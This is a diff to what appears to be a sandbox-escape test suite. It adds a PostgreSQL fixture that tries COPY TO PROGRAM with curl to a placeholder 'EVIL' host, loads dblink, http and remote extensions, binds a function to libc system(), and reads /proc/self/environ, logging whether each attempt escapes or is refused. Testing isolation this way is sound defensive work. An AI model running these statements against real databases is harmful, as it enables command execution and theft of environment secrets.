@@ -144,6 +144,28 @@ ATTACH DATABASE 'EVIL/sql' AS evil;
 CREATE TABLE IF NOT EXISTS evil.found (a);
 SELECT load_extension('EVIL/extension');
 `,
+  'reaching-out.pgsql': `SELECT 'begun';
+DO $$
+DECLARE
+  attempt text;
+BEGIN
+  FOREACH attempt IN ARRAY ARRAY[
+    'COPY (SELECT 1) TO PROGRAM ''curl EVIL/postgres-program''',
+    'CREATE EXTENSION dblink',
+    'CREATE EXTENSION http',
+    'CREATE FUNCTION sh(text) RETURNS int LANGUAGE C AS ''libc.so.6'', ''system''',
+    'LOAD ''EVIL/postgres.so'''
+  ] LOOP
+    BEGIN
+      EXECUTE attempt;
+      RAISE NOTICE 'ESCAPED %', attempt;
+    EXCEPTION WHEN OTHERS THEN
+      RAISE NOTICE 'refused: %', SQLERRM;
+    END;
+  END LOOP;
+END $$;
+SELECT pg_read_file('/proc/self/environ');
+`,
   'reaching-out.c': `#include <stdio.h>
 #include <stdlib.h>
 #include <unistd.h>
